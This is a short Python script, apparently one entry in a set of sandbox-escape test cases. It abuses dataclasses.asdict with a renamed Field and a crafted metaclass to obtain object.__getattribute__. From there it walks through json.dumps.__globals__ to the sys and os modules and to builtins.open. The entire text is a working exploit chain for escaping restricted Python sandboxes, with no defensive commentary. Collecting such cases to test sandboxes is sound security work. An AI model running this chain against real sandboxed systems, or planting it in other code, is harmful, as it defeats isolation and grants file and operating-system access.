# technique: dataclasses.asdict only checks the top-level object's fields; the real _asdict_inner recurses into a nested 'dataclass instance' (a class whose metaclass carries __dataclass_fields__ with a renamed Field) and does getattr(cls, '__getattribute__') -> object.__getattribute__
# expect: any
import dataclasses, json
@dataclasses.dataclass
class D:
    x: int = 0
dataclasses.fields(D)[0].name = "__getattribute__"
M = type("M", (type,), {"__dataclass_fields__": D.__dataclass_fields__})
C = M("C", (), {})
@dataclasses.dataclass
class O:
    inner: object = None
d = dataclasses.asdict(O(C))
ga = d["inner"]["__getattribute__"]
print(type(ga), ga)
g = ga(json.dumps, "__globals__")
print(type(g), sorted(g)[:8])
sysm = ga(g["codecs"], "sys")
print(sysm, sysm.modules["os"], sysm.modules["builtins"].open)
